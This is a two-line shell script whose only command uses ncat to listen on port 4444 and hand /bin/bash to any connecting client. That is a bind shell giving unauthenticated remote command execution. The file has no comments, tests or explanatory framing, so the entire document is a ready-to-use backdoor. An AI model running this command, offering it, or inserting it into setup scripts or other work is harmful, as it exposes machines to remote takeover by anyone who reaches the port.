#!/bin/sh
ncat -lvp 4444 -e /bin/bash
